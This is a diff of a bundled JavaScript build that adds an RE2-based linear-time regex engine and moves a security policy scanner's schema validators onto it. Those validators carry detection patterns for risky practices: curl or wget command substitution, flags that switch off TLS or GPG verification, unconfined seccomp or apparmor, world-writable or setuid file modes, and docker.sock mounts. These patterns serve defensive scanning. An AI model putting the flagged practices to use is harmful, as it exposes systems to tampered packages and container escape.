+    const a = this.executeEngine(MachineInput.fromUTF8(b), 0, RE2Flags.UNANCHORED, this.prog.numCap);
+    if (a === null) return null;
+    const ret = new Array(1 + this.numSubexp).fill(null);
+    for (let i = 0; i < ret.length; i++) if (2 * i < a.length && a[2 * i] >= 0) ret[i] = b.slice(a[2 * i], a[2 * i + 1]);
+    return ret;
+  }
+  /**
+  * Returns an array holding the index pairs identifying the leftmost match of this regular
+  * expression in {@code b} and the matches, if any, of its subexpressions, as defined by the the
+  * <a href='#submatch'>Submatch</a> and <a href='#index'>Index</a> descriptions above.
+  *
+  * A return value of null indicates no match.
+  */
+  findUTF8SubmatchIndex(b) {
+    return this.pad(this.executeEngine(MachineInput.fromUTF8(b), 0, RE2Flags.UNANCHORED, this.prog.numCap));
+  }
+  /**
+  * Returns an array of strings holding the text of the leftmost match of the regular expression in
+  * {@code s} and the matches, if any, of its subexpressions, as defined by the <a
+  * href='#submatch'>Submatch</a> description above.
+  *
+  * A return value of null indicates no match.
+  */
+  findSubmatch(s) {
+    const a = this.executeEngine(MachineInput.fromUTF16(s), 0, RE2Flags.UNANCHORED, this.prog.numCap);
+    if (a === null) return null;
+    const ret = new Array(1 + this.numSubexp).fill(null);
+    for (let i = 0; i < ret.length; i++) if (2 * i < a.length && a[2 * i] >= 0) ret[i] = s.substring(a[2 * i], a[2 * i + 1]);
+    return ret;
+  }
+  /**
+  * Returns an array holding the index pairs identifying the leftmost match of this regular
+  * expression in {@code s} and the matches, if any, of its subexpressions, as defined by the <a
+  * href='#submatch'>Submatch</a> description above.
+  *
+  * A return value of null indicates no match.
+  */
+  findSubmatchIndex(s) {
+    return this.pad(this.executeEngine(MachineInput.fromUTF16(s), 0, RE2Flags.UNANCHORED, this.prog.numCap));
+  }
+  /**
+  * {@code findAllUTF8()} is the <a href='#all'>All</a> version of {@link #findUTF8}; it returns a
+  * list of up to {@code n} successive matches of the expression, as defined by the <a
+  * href='#all'>All</a> description above.
+  *
+  * A return value of null indicates no match.
+  *
+  * TODO(adonovan): think about defining a byte slice view class, like a read-only Go slice backed
+  * by |b|.
+  */
+  findAllUTF8(b, n) {
+    const result = this.allMatches(MachineInput.fromUTF8(b), n, (match) => b.slice(match[0], match[1]));
+    if (result.length === 0) return null;
+    return result;
+  }
+  /**
+  * {@code findAllUTF8Index} is the <a href='#all'>All</a> version of {@link #findUTF8Index}; it
+  * returns a list of up to {@code n} successive matches of the expression, as defined by the <a
+  * href='#all'>All</a> description above.
+  *
+  * A return value of null indicates no match.
+  */
+  findAllUTF8Index(b, n) {
+    const result = this.allMatches(MachineInput.fromUTF8(b), n, (match) => match.slice(0, 2));
+    if (result.length === 0) return null;
+    return result;
+  }
+  /**
+  * {@code findAll} is the <a href='#all'>All</a> version of {@link #find}; it returns a list of up
+  * to {@code n} successive matches of the expression, as defined by the <a href='#all'>All</a>
+  * description above.
+  *
+  * A return value of null indicates no match.
+  */
+  findAll(s, n) {
+    const result = this.allMatches(MachineInput.fromUTF16(s), n, (match) => s.substring(match[0], match[1]));
+    if (result.length === 0) return null;
+    return result;
+  }
+  /**
+  * {@code findAllIndex} is the <a href='#all'>All</a> version of {@link #findIndex}; it returns a
+  * list of up to {@code n} successive matches of the expression, as defined by the <a
+  * href='#all'>All</a> description above.
+  *
+  * A return value of null indicates no match.
+  */
+  findAllIndex(s, n) {
+    const result = this.allMatches(MachineInput.fromUTF16(s), n, (match) => match.slice(0, 2));
+    if (result.length === 0) return null;
+    return result;
+  }
+  /**
+  * {@code findAllUTF8Submatch} is the <a href='#all'>All</a> version of {@link #findUTF8Submatch};
+  * it returns a list of up to {@code n} successive matches of the expression, as defined by the <a
+  * href='#all'>All</a> description above.
+  *
+  * A return value of null indicates no match.
+  */
+  findAllUTF8Submatch(b, n) {
+    const result = this.allMatches(MachineInput.fromUTF8(b), n, (match) => {
+      let slice = new Array(match.length / 2 | 0).fill(null);
+      for (let j = 0; j < slice.length; j++) if (match[2 * j] >= 0) slice[j] = b.slice(match[2 * j], match[2 * j + 1]);
+      return slice;
+    });
+    if (result.length === 0) return null;
+    return result;
+  }
+  /**
+  * {@code findAllUTF8SubmatchIndex} is the <a href='#all'>All</a> version of
+  * {@link #findUTF8SubmatchIndex}; it returns a list of up to {@code n} successive matches of the
+  * expression, as defined by the <a href='#all'>All</a> description above.
+  *
+  * A return value of null indicates no match.
+  */
+  findAllUTF8SubmatchIndex(b, n) {
+    const result = this.allMatches(MachineInput.fromUTF8(b), n);
+    if (result.length === 0) return null;
+    return result;
+  }
+  /**
+  * {@code findAllSubmatch} is the <a href='#all'>All</a> version of {@link #findSubmatch}; it
+  * returns a list of up to {@code n} successive matches of the expression, as defined by the <a
+  * href='#all'>All</a> description above.
+  *
+  * A return value of null indicates no match.
+  */
+  findAllSubmatch(s, n) {
+    const result = this.allMatches(MachineInput.fromUTF16(s), n, (match) => {
+      let slice = new Array(match.length / 2 | 0).fill(null);
+      for (let j = 0; j < slice.length; j++) if (match[2 * j] >= 0) slice[j] = s.substring(match[2 * j], match[2 * j + 1]);
+      return slice;
+    });
+    if (result.length === 0) return null;
+    return result;
+  }
+  /**
+  * {@code findAllSubmatchIndex} is the <a href='#all'>All</a> version of
+  * {@link #findSubmatchIndex}; it returns a list of up to {@code n} successive matches of the
+  * expression, as defined by the <a href='#all'>All</a> description above.
+  *
+  * A return value of null indicates no match.
+  */
+  findAllSubmatchIndex(s, n) {
+    const result = this.allMatches(MachineInput.fromUTF16(s), n);
+    if (result.length === 0) return null;
+    return result;
+  }
+};
+var RE2Set = class RE2Set2 {
+  /** @type {number} */
+  static UNANCHORED = RE2Flags.UNANCHORED;
+  /** @type {number} */
+  static ANCHOR_START = RE2Flags.ANCHOR_START;
+  /** @type {number} */
+  static ANCHOR_BOTH = RE2Flags.ANCHOR_BOTH;
+  /**
+  * Constructs a new RE2Set with the specified anchor mode and flags.
+  * @param {number} [anchor=RE2Set.UNANCHORED] - The anchoring mode (e.g., RE2Set.UNANCHORED).
+  * @param {number} [flags=0] - The public flags to apply to all patterns in the set.
+  * @param {number} [maxMem=8388608] - The maximum memory in bytes to use for the DFA (default 8MB).
+  */
+  constructor(anchor2 = RE2Set2.UNANCHORED, flags = 0, maxMem = 8388608) {
+    if (![
+      RE2Set2.UNANCHORED,
+      RE2Set2.ANCHOR_START,
+      RE2Set2.ANCHOR_BOTH
+    ].includes(anchor2)) throw new RE2JSFlagsException("The anchor should be RE2Set.UNANCHORED, RE2Set.ANCHOR_START or RE2Set.ANCHOR_BOTH");
+    Utils.checkFlags(flags);
+    this.anchor = anchor2;
+    this.jsFlags = flags;
+    this.maxMem = maxMem;
+    let re2Flags = RE2Flags.PERL;
+    if ((flags & PublicFlags.DISABLE_UNICODE_GROUPS) !== 0) re2Flags &= ~RE2Flags.UNICODE_GROUPS;
+    if ((flags & PublicFlags.LOOKBEHINDS) !== 0) re2Flags |= RE2Flags.LOOKBEHIND;
+    this.re2Flags = re2Flags;
+    this.regexps = [];
+    this.prog = null;
+    this.dfa = null;
+    this.dummyRe2 = null;
+  }
+  /**
+  * Adds a new regular expression pattern to the set.
+  * Patterns cannot be added after the set has been compiled.
+  * @param {string} pattern - The regular expression pattern to add.
+  * @returns {number} The integer index assigned to the added pattern.
+  * @throws {RE2JSCompileException} If patterns are added after compilation.
+  */
+  add(pattern) {
+    if (this.prog) throw new RE2JSCompileException("Cannot add patterns after compile");
+    Utils.checkPattern(pattern);
+    let fregex = pattern;
+    if ((this.jsFlags & PublicFlags.CASE_INSENSITIVE) !== 0) fregex = `(?i)${fregex}`;
+    if ((this.jsFlags & PublicFlags.DOTALL) !== 0) fregex = `(?s)${fregex}`;
+    if ((this.jsFlags & PublicFlags.MULTILINE) !== 0) fregex = `(?m)${fregex}`;
+    const re = Parser2.parse(fregex, this.re2Flags);
+    this.regexps.push(Simplify.simplify(re));
+    return this.regexps.length - 1;
+  }
+  /**
+  * Compiles the added patterns into a single state machine.
+  * This is automatically called on the first match if not called explicitly.
+  * @returns {void}
+  */
+  compile() {
+    if (this.prog) return;
+    const prog = Compiler.compileSet(this.regexps);
+    if (prog.numInst() > Parser2.MAX_SIZE) throw new RE2JSCompileException(`${Parser2.ERR_LARGE}: the set compiles to ${prog.numInst()} instructions, more than ${Parser2.MAX_SIZE}`);
+    this.prog = prog;
+    this.dfa = new DFA(this.prog, this.maxMem);
+    this.dummyRe2 = {
+      prog: this.prog,
+      cond: this.prog.startCond(),
+      prefix: "",
+      prefixRune: 0,
+      longest: false
+    };
+  }
+  /**
+  * Matches the input against the compiled set of regular expressions.
+  * @param {string|number[]|Uint8Array} input - The input string or UTF-8 byte array to match against.
+  * @returns {number[]} An array of indices representing the patterns that successfully matched the input.
+  */
+  match(input) {
+    if (!this.prog) this.compile();
+    const machineInput = Utils.isByteArray(input) ? MachineInput.fromUTF8(input) : MachineInput.fromUTF16(input);
+    let internalAnchor = RE2Flags.UNANCHORED;
+    if (this.anchor === RE2Set2.ANCHOR_START) internalAnchor = RE2Flags.ANCHOR_START;
+    else if (this.anchor === RE2Set2.ANCHOR_BOTH) internalAnchor = RE2Flags.ANCHOR_BOTH;
+    const dfaResult = this.dfa.matchSet(machineInput, 0, internalAnchor);
+    if (dfaResult !== null) return dfaResult;
+    const machine = Machine.fromRE2(this.dummyRe2);
+    machine.init(0);
+    return machine.matchSet(machineInput, 0, internalAnchor);
+  }
+};
+var TranslateRegExpString = class TranslateRegExpString2 {
+  static isHexadecimal(ch) {
+    return "0" <= ch && ch <= "9" || "A" <= ch && ch <= "F" || "a" <= ch && ch <= "f";
+  }
+  static translate(data) {
+    let prefixFlags = "";
+    if (Object.prototype.toString.call(data) === "[object RegExp]") {
+      if (data.ignoreCase) prefixFlags += "i";
+      if (data.multiline) prefixFlags += "m";
+      if (data.dotAll) prefixFlags += "s";
+      data = data.source;
+    }
+    if (typeof data !== "string") return data;
+    let result = "";
+    let changed = false;
+    let size = data.length;
+    if (size === 0) {
+      result = "(?:)";
+      changed = true;
+    }
+    let inCharClass = false;
+    let i = 0;
+    while (i < size) {
+      let ch = data[i];
+      if (ch === "\\") {
+        if (i + 1 < size) {
+          ch = data[i + 1];
+          switch (ch) {
+            case "\\":
+              result += "\\\\";
+              i += 2;
+              continue;
+            case "c":
+              if (i + 2 < size) {
+                let code = data[i + 2].charCodeAt(0);
+                if (code >= 65 && code <= 90 || code >= 97 && code <= 122) {
+                  let val = code % 32;
+                  result += "\\x";
+                  result += (val >> 4).toString(16).toUpperCase();
+                  result += (val & 15).toString(16).toUpperCase();
+                  i += 3;
+                  changed = true;
+                  continue;
+                }
+              }
+              result += "c";
+              i += 2;
+              changed = true;
+              continue;
+            case "u":
+              if (i + 2 < size) {
+                if (data[i + 2] === "{") {
+                  let j = i + 3;
+                  let hasHex = false;
+                  let closed = false;
+                  while (j < size) {
+                    const hexChar = data[j];
+                    if (hexChar === "}") {
+                      closed = true;
+                      break;
+                    }
+                    if (!TranslateRegExpString2.isHexadecimal(hexChar)) break;
+                    hasHex = true;
+                    j++;
+                  }
+                  if (closed && hasHex) {
+                    result += "\\x";
+                    i += 2;
+                    changed = true;
+                    continue;
+                  }
+                } else if (i + 5 < size) {
+                  let isHex4 = true;
+                  for (let j = 0; j < 4; j++) if (!TranslateRegExpString2.isHexadecimal(data[i + 2 + j])) {
+                    isHex4 = false;
+                    break;
+                  }
+                  if (isHex4) {
+                    result += "\\x{" + data.substring(i + 2, i + 6) + "}";
+                    i += 6;
+                    changed = true;
+                    continue;
+                  }
+                }
+              }
+              result += "u";
+              i += 2;
+              changed = true;
+              continue;
+            case "x": {
+              let isValidHex = false;
+              if (i + 2 < size && data[i + 2] === "{") {
+                let j = i + 3;
+                let hasHex = false;
+                let closed = false;
+                while (j < size) {
+                  const hexChar = data[j];
+                  if (hexChar === "}") {
+                    closed = true;
+                    break;
+                  }
+                  if (!TranslateRegExpString2.isHexadecimal(hexChar)) break;
+                  hasHex = true;
+                  j++;
+                }
+                if (closed && hasHex) isValidHex = true;
+              } else if (i + 3 < size && TranslateRegExpString2.isHexadecimal(data[i + 2]) && TranslateRegExpString2.isHexadecimal(data[i + 3])) isValidHex = true;
+              if (isValidHex) {
+                result += "\\x";
+                i += 2;
+              } else {
+                result += "x";
+                i += 2;
+                changed = true;
+              }
+              continue;
+            }
+            case "n":
+            case "r":
+            case "t":
+            case "a":
+            case "f":
+            case "v":
+            case "d":
+            case "D":
+            case "s":
+            case "S":
+            case "w":
+            case "W":
+            case "b":
+            case "B":
+            case "p":
+            case "P":
+            case "A":
+            case "z":
+            case "Q":
+            case "E":
+            case "0":
+            case "1":
+            case "2":
+            case "3":
+            case "4":
+            case "5":
+            case "6":
+            case "7":
+              result += "\\" + ch;
+              i += 2;
+              continue;
+            default: {
+              let cp2 = data.codePointAt(i + 1);
+              if (cp2 >= 48 && cp2 <= 57 || cp2 >= 65 && cp2 <= 90 || cp2 >= 97 && cp2 <= 122) {
+                let symSize2 = Utils.charCount(cp2);
+                result += data.substring(i + 1, i + 1 + symSize2);
+                i += symSize2 + 1;
+                changed = true;
+              } else {
+                result += "\\";
+                let symSize2 = Utils.charCount(cp2);
+                result += data.substring(i + 1, i + 1 + symSize2);
+                i += symSize2 + 1;
+              }
+              continue;
+            }
+          }
+        }
+      } else if (ch === "/") {
+        result += "\\/";
+        i += 1;
+        changed = true;
+        continue;
+      } else if (ch === "[") {
+        if (!inCharClass && data[i + 1] === "]") {
+          result += "[^\\x00-\\x{10FFFF}]";
+          i += 2;
+          changed = true;
+          continue;
+        }
+        if (!inCharClass && data[i + 1] === "^" && data[i + 2] === "]") {
+          result += "[\\x00-\\x{10FFFF}]";
+          i += 3;
+          changed = true;
+          continue;
+        }
+        inCharClass = true;
+      } else if (ch === "]") inCharClass = false;
+      else if (!inCharClass && ch === "(" && i + 2 < size && data[i + 1] === "?" && data[i + 2] === "<") {
+        if (i + 3 < size && !"=!>)".includes(data[i + 3])) {
+          result += "(?P<";
+          i += 3;
+          changed = true;
+          continue;
+        }
+      }
+      let cp = data.codePointAt(i);
+      let symSize = Utils.charCount(cp);
+      result += data.substring(i, i + symSize);
+      i += symSize;
+    }
+    const finalResult = changed ? result : data;
+    if (prefixFlags.length > 0) return `(?${prefixFlags})${finalResult}`;
+    return finalResult;
+  }
+};
+var execResult = (m, input) => {
+  const result = m.matchArray();
+  result.index = m.start(0);
+  result.input = input;
+  result.groups = m.namedGroupsObject();
+  return result;
+};
+var RE2JS = class RE2JS2 {
+  /**
+  * Flag: case insensitive matching.
+  */
+  static CASE_INSENSITIVE = PublicFlags.CASE_INSENSITIVE;
+  /**
+  * Flag: dot ({@code .}) matches all characters, including newline.
+  */
+  static DOTALL = PublicFlags.DOTALL;
+  /**
+  * Flag: multiline matching: {@code ^} and {@code $} match at beginning and end of line, not just
+  * beginning and end of input.
+  */
+  static MULTILINE = PublicFlags.MULTILINE;
+  /**
+  * Flag: Unicode groups (e.g. {@code \p\ Greek\} ) will be syntax errors.
+  */
+  static DISABLE_UNICODE_GROUPS = PublicFlags.DISABLE_UNICODE_GROUPS;
+  /**
+  * Flag: matches longest possible string.
+  */
+  static LONGEST_MATCH = PublicFlags.LONGEST_MATCH;
+  /**
+  * Flag: enable linear-time captureless lookbehinds.
+  */
+  static LOOKBEHINDS = PublicFlags.LOOKBEHINDS;
+  /**
+  * Returns a literal pattern string for the specified string.
+  *
+  * This method produces a string that can be used to create a <code>RE2JS</code> that would
+  * match the string <code>s</code> as if it were a literal pattern.
+  *
+  * Metacharacters or escape sequences in the input sequence will be given no special meaning.
+  *
+  * @param {string} str The string to be literalized
+  * @returns {string} A literal string replacement
+  */
+  static quote(str) {
+    return Utils.quoteMeta(str);
+  }
+  /**
+  * Quotes '\' and '$' in {@code str}, so that the returned string could be used in
+  * replacement methods as a literal replacement of {@code str}.
+  *
+  * This is a convenience delegation to {@link Matcher.quoteReplacement}.
+  *
+  * @param {string} str the string to be quoted
+  * @param {boolean} [javaMode=false] whether the replacement will be used in javaMode
+  * @returns {string} the quoted string
+  */
+  static quoteReplacement(str, javaMode = false) {
+    return Matcher.quoteReplacement(str, javaMode);
+  }
+  /**
+  * Translates a given regular expression string to ensure compatibility with RE2JS.
+  *
+  * This function preprocesses the input regex string by applying necessary transformations,
+  * such as escaping special characters (e.g., `/`), converting named capture groups to
+  * RE2JS-compatible syntax, and handling Unicode sequences properly. It ensures that the
+  * resulting regex is safe and properly formatted before compilation.
+  *
+  * @param {string|RegExp} expr - The regular expression string to be translated.
+  * @returns {string} - The transformed regular expression string, ready for compilation.
+  */
+  static translateRegExp(expr) {
+    return TranslateRegExpString.translate(expr);
+  }
+  /**
+  * Helper: create new RE2JS with given regex and flags. Flregex is the regex with flags applied.
+  * @param {string} regex
+  * @param {number} [flags=0]
+  * @returns {RE2JS}
+  */
+  static compile(regex, flags = 0) {
+    Utils.checkPattern(regex);
+    Utils.checkFlags(flags);
+    let fregex = regex;
+    if ((flags & RE2JS2.CASE_INSENSITIVE) !== 0) fregex = `(?i)${fregex}`;
+    if ((flags & RE2JS2.DOTALL) !== 0) fregex = `(?s)${fregex}`;
+    if ((flags & RE2JS2.MULTILINE) !== 0) fregex = `(?m)${fregex}`;
+    let re2Flags = RE2Flags.PERL;
+    if ((flags & RE2JS2.DISABLE_UNICODE_GROUPS) !== 0) re2Flags &= ~RE2Flags.UNICODE_GROUPS;
+    if ((flags & RE2JS2.LOOKBEHINDS) !== 0) re2Flags |= RE2Flags.LOOKBEHIND;
+    const p = new RE2JS2(regex, flags);
+    p.re2Input = RE2.compileImpl(fregex, re2Flags, (flags & RE2JS2.LONGEST_MATCH) !== 0);
+    return p;
+  }
+  /**
+  * Matches a string against a regular expression.
+  *
+  * @param {string} regex the regular expression
+  * @param {string|number[]|Uint8Array} input the input
+  * @returns {boolean} true if the regular expression matches the entire input
+  * @throws RE2JSSyntaxException if the regular expression is malformed
+  */
+  static matches(regex, input) {
+    return RE2JS2.compile(regex).testExact(input);
+  }
+  /**
+  * This is visible for testing.
+  * @private
+  */
+  static initTest(pattern, flags, re2) {
+    if (pattern == null) throw new Error("pattern is null");
+    if (re2 == null) throw new Error("re2 is null");
+    const p = new RE2JS2(pattern, flags);
+    p.re2Input = re2;
+    return p;
+  }
+  /**
+  *
+  * @param {string} pattern
+  * @param {number} flags
+  */
+  constructor(pattern, flags) {
+    this.patternInput = pattern;
+    this.flagsInput = flags;
+    this.re2Input = null;
+  }
+  /**
+  * Releases memory used by internal caches associated with this pattern. Does not change the
+  * observable behaviour. Useful for tests that detect memory leaks via allocation tracking.
+  */
+  reset() {
+    this.re2Input.reset();
+  }
+  /**
+  * Returns the flags used in the constructor.
+  * @returns {number}
+  */
+  flags() {
+    return this.flagsInput;
+  }
+  /**
+  * Returns the pattern used in the constructor.
+  * @returns {string}
+  */
+  pattern() {
+    return this.patternInput;
+  }
+  re2() {
+    return this.re2Input;
+  }
+  /**
+  * Matches a string against a regular expression.
+  *
+  * @param {string|number[]|Uint8Array} input the input
+  * @returns {boolean} true if the regular expression matches the entire input
+  */
+  matches(input) {
+    return this.testExact(input);
+  }
+  /**
+  * Creates a new {@code Matcher} matching the pattern against the input.
+  *
+  * @param {string|number[]|Uint8Array|MatcherInputBase} input the input string
+  * @returns {Matcher}
+  */
+  matcher(input) {
+    if (Utils.isByteArray(input)) input = MatcherInput.utf8(input);
+    return new Matcher(this, input);
+  }
+  /**
+  * Tests whether the regular expression matches any part of the input string.
+  * Performance Note: This method is highly optimized. Because it only returns
+  * a boolean and does not extract capture groups, it bypasses the `Matcher` overhead
+  * and guarantees execution on the high-speed DFA engine whenever possible.
+  *
+  * @param {string|number[]|Uint8Array} input - The input string or UTF-8 byte array to test against.
+  * @returns {boolean} `true` if the pattern is found anywhere in the input, `false` otherwise.
+  */
+  test(input) {
+    if (Utils.isByteArray(input)) return this.re2Input.matchUTF8(input);
+    return this.re2Input.match(input);
+  }
+  /**
+  * Tests whether the regular expression matches the ENTIRE input string.
+  * * **Performance Note:** This operates identically to `.matches()`, but is significantly
+  * faster because it does not request capture group data. By requesting 0 capture groups,
+  * it securely routes execution through the DFA fast-path.
+  *
+  * @param {string|number[]|Uint8Array} input - The input string or UTF-8 byte array to test against.
+  * @returns {boolean} `true` if the exact input string fully matches the pattern, `false` otherwise.
+  */
+  testExact(input) {
+    const machineInput = Utils.isByteArray(input) ? MachineInput.fromUTF8(input) : MachineInput.fromUTF16(input);
+    return this.re2Input.executeEngine(machineInput, 0, RE2Flags.ANCHOR_BOTH, 0) !== null;
+  }
+  /**
+  * Executes a search for a match in a specified string.
+  * Returns a result array, or null if no match is found.
+  * The returned array perfectly mirrors standard JavaScript `RegExpExecArray`,
+  * including `.index`, `.input`, and `.groups` properties.
+  *
+  * @param {string|number[]|Uint8Array} input the input string or byte array
+  * @returns {Array|null} the match array with index, input, and groups properties, or null
+  */
+  exec(input) {
+    const m = this.matcher(input);
+    return m.find() ? execResult(m, input) : null;
+  }
+  /**
+  * Splits input around instances of the regular expression. It returns an array giving the strings
+  * that occur before, between, and after instances of the regular expression.
+  *
+  * If {@code limit <= 0}, there is no limit on the size of the returned array. If
+  * {@code limit == 0}, empty strings that would occur at the end of the array are omitted. If
+  * {@code limit > 0}, at most limit strings are returned. The final string contains the remainder
+  * of the input, possibly including additional matches of the pattern.
+  *
+  * @param {string} input the input string to be split
+  * @param {number} [limit=0] the limit
+  * @returns {string[]} the split strings
+  */
+  split(input, limit = 0) {
+    const m = this.matcher(input);
+    const result = [];
+    let emptiesSkipped = 0;
+    let last = 0;
+    while (m.find()) {
+      if (last === 0 && m.end() === 0) {
+        last = m.end();
+        continue;
+      }
+      if (limit > 0 && result.length === limit - 1) break;
+      if (last === m.start()) {
+        if (limit === 0) {
+          emptiesSkipped += 1;
+          last = m.end();
+          continue;
+        }
+      } else while (emptiesSkipped > 0) {
+        result.push("");
+        emptiesSkipped -= 1;
+      }
+      result.push(m.substring(last, m.start()));
+      last = m.end();
+    }
+    if (limit === 0 && last !== m.inputLength()) {
+      while (emptiesSkipped > 0) {
+        result.push("");
+        emptiesSkipped -= 1;
+      }
+      result.push(m.substring(last, m.inputLength()));
+    }
+    if (limit !== 0 || result.length === 0 && !(last === m.inputLength() && last > 0)) result.push(m.substring(last, m.inputLength()));
+    return result;
+  }
+  /**
+  * Returns an iterator of all results matching a string against the regular expression,
+  * including capturing groups.
+  *
+  * @param {string|number[]|Uint8Array} input the input string or byte array
+  * @returns {IterableIterator<RegExpMatchArray>}
+  */
+  *matchAll(input) {
+    const m = this.matcher(input);
+    while (m.find()) yield execResult(m, input);
+  }
+  /**
+  *
+  * @returns {string}
+  */
+  toString() {
+    return this.patternInput;
+  }
+  /**
+  * Returns the program size of this pattern.
+  *
+  * <p>
+  * Similar to the C++ implementation, the program size is a very approximate measure of a regexp's
+  * "cost". Larger numbers are more expensive than smaller numbers.
+  * </p>
+  *
+  * @returns {number} the program size of this pattern
+  */
+  programSize() {
+    return this.re2Input.numberOfInstructions();
+  }
+  /**
+  * Returns the number of capturing groups in this matcher's pattern. Group zero denotes the entire
+  * pattern and is excluded from this count.
+  *
+  * @returns {number} the number of capturing groups in this pattern
+  */
+  groupCount() {
+    return this.re2Input.numberOfCapturingGroups();
+  }
+  /**
+  * Return a map of the capturing groups in this matcher's pattern, where key is the name and value
+  * is the index of the group in the pattern.
+  * @returns {Record<string, number>}
+  */
+  namedGroups() {
+    return this.re2Input.namedGroups;
+  }
+  /**
+  *
+  * @param {*} other
+  * @returns {boolean}
+  */
+  equals(other) {
+    if (this === other) return true;
+    if (other === null || this.constructor !== other.constructor) return false;
+    return this.flagsInput === other.flagsInput && this.patternInput === other.patternInput;
+  }
+};
+
+// src/policy/linear-regex.ts
+var linearRegExp = Object.assign((pattern, _unicode) => compileLinear(pattern), { code: "linearRegExp" });
+var cache = /* @__PURE__ */ new Map();
+function compileLinear(pattern) {
+  let compiled2 = cache.get(pattern);
+  if (!compiled2) {
+    if (/(^|[^\\])(\\\\)*\\k</.test(pattern)) throw new Error("invalid escape sequence: `\\k<` (a backreference)");
+    const re = RE2JS.compile(RE2JS.translateRegExp(pattern), RE2JS.LOOKBEHINDS);
+    compiled2 = { test: (value) => re.test(value), toString: () => `re2:${pattern}` };
+    cache.set(pattern, compiled2);
+  }
+  return compiled2;
+}
+function linearPatternError(pattern) {
+  try {
+    compileLinear(pattern);
+    return void 0;
+  } catch (error) {
+    return error.message;
+  }
+}
+function schemaPatterns(schema, pointer = "") {
+  const found = [];
+  const visit2 = (value, at) => {
+    if (Array.isArray(value)) {
+      for (const [index, item] of value.entries()) visit2(item, `${at}/${index}`);
+      return;
+    }
+    if (value === null || typeof value !== "object") return;
+    for (const [key, child] of Object.entries(value)) {
+      const childAt = `${at}/${escapeSegment(key)}`;
+      if (key === "pattern" && typeof child === "string") found.push({ pattern: child, pointer: childAt });
+      if (key === "patternProperties" && child !== null && typeof child === "object") {
+        for (const name of Object.keys(child)) found.push({ pattern: name, pointer: `${childAt}/${escapeSegment(name)}` });
+      }
+      visit2(child, childAt);
+    }
+  };
+  visit2(schema, pointer);
+  return found;
+}
+function unsupportedPattern(schema, pointer = "") {
+  for (const found of schemaPatterns(schema, pointer)) {
+    const reason = linearPatternError(found.pattern);
+    if (reason !== void 0) {
+      return {
+        pointer: found.pointer,
+        message: `The pattern ${JSON.stringify(found.pattern)} is not RE2 syntax (${reason}). Patterns run on RE2, which matches in linear time so that no value in a pull request can stall the scan; it has no backreferences (\\1) and no lookahead ((?=, (?!). Rewrite it without them: a lookahead at the start of an anchored pattern can be a lookbehind ((?<=, (?<!) before its final $, or a \`not: { pattern: \u2026 }\` beside it.`
+      };
+    }
+  }
+  return void 0;
+}
 
 // src/policy/precompiled.ts
 var v0 = validate20;
@@ -22035,7 +28931,8 @@ function validate20(data, { instancePath = "", parentData, parentDataProperty, r
 }
 validate20.evaluated = { "props": { "origin": true }, "dynamicProps": false, "dynamicItems": false };
 var v1 = validate21;
-var pattern4 = new RegExp("^0?[0-7]{2}[2367]$|^[2-7][0-7]{3}$|(^|,)[ug]*[oa][ugoa]*[+=][rxXst]*w|[+=][rwxXt]*s", "u");
+var func0 = linearRegExp;
+var pattern4 = func0("^0?[0-7]{2}[2367]$|^[2-7][0-7]{3}$|(^|,)[ug]*[oa][ugoa]*[+=][rxXst]*w|[+=][rwxXt]*s", "u");
 function validate21(data, { instancePath = "", parentData, parentDataProperty, rootData = data, dynamicAnchors = {} } = {}) {
   let vErrors = null;
   let errors = 0;
@@ -22139,7 +29036,7 @@ function validate21(data, { instancePath = "", parentData, parentDataProperty, r
 }
 validate21.evaluated = { "dynamicProps": true, "dynamicItems": false };
 var v2 = validate22;
-var pattern5 = new RegExp("^\\$\\((curl|wget)\\s", "u");
+var pattern5 = func0("^\\$\\((curl|wget)\\s", "u");
 function validate22(data, { instancePath = "", parentData, parentDataProperty, rootData = data, dynamicAnchors = {} } = {}) {
   let vErrors = null;
   let errors = 0;
@@ -22332,12 +29229,12 @@ function validate22(data, { instancePath = "", parentData, parentDataProperty, r
 }
 validate22.evaluated = { "dynamicProps": true, "dynamicItems": false };
 var v3 = validate23;
-var pattern6 = new RegExp("^(--insecure$|-[a-zA-Z]*k)", "u");
-var pattern7 = new RegExp("^--(allow-unauthenticated|allow-insecure-repositories|force-yes)$|Verify-(Peer|Host)=(false|0)$|AllowUnauthenticated=(true|1)$", "u");
-var pattern8 = new RegExp("^--(nogpgcheck|no-gpg-checks)$|^--setopt=(sslverify|gpgcheck|repo_gpgcheck)=(0|false|False)$", "u");
-var pattern9 = new RegExp("^--trusted-host(=|$)", "u");
-var pattern10 = new RegExp("^(--)?strict-ssl(=false)?$", "u");
-var pattern11 = new RegExp("^http\\..*[sS][sS][lL][vV][eE][rR][iI][fF][yY](=(false|0|no|off))?$", "u");
+var pattern6 = func0("^(--insecure$|-[a-zA-Z]*k)", "u");
+var pattern7 = func0("^--(allow-unauthenticated|allow-insecure-repositories|force-yes)$|Verify-(Peer|Host)=(false|0)$|AllowUnauthenticated=(true|1)$", "u");
+var pattern8 = func0("^--(nogpgcheck|no-gpg-checks)$|^--setopt=(sslverify|gpgcheck|repo_gpgcheck)=(0|false|False)$", "u");
+var pattern9 = func0("^--trusted-host(=|$)", "u");
+var pattern10 = func0("^(--)?strict-ssl(=false)?$", "u");
+var pattern11 = func0("^http\\..*[sS][sS][lL][vV][eE][rR][iI][fF][yY](=(false|0|no|off))?$", "u");
 function validate23(data, { instancePath = "", parentData, parentDataProperty, rootData = data, dynamicAnchors = {} } = {}) {
   let vErrors = null;
   let errors = 0;
@@ -23366,7 +30263,7 @@ function validate26(data, { instancePath = "", parentData, parentDataProperty, r
 }
 validate26.evaluated = { "props": { "cgroup": true, "cgroup_parent": true }, "dynamicProps": false, "dynamicItems": false };
 var v7 = validate27;
-var pattern12 = new RegExp("^(seccomp|apparmor|systempaths)=\\s*unconfined$|^label=\\s*disable$", "u");
+var pattern12 = func0("^(seccomp|apparmor|systempaths)=\\s*unconfined$|^label=\\s*disable$", "u");
 function validate27(data, { instancePath = "", parentData, parentDataProperty, rootData = data, dynamicAnchors = {} } = {}) {
   let vErrors = null;
   let errors = 0;
@@ -23530,7 +30427,7 @@ function validate29(data, { instancePath = "", parentData, parentDataProperty, r
 }
 validate29.evaluated = { "props": { "network_mode": true }, "dynamicProps": false, "dynamicItems": false };
 var v10 = validate30;
-var pattern13 = new RegExp("^(/var)?/run/docker\\.sock/?$", "u");
+var pattern13 = func0("^(/var)?/run/docker\\.sock/?$", "u");
 function validate30(data, { instancePath = "", parentData, parentDataProperty, rootData = data, dynamicAnchors = {} } = {}) {
   let vErrors = null;
   let errors = 0;
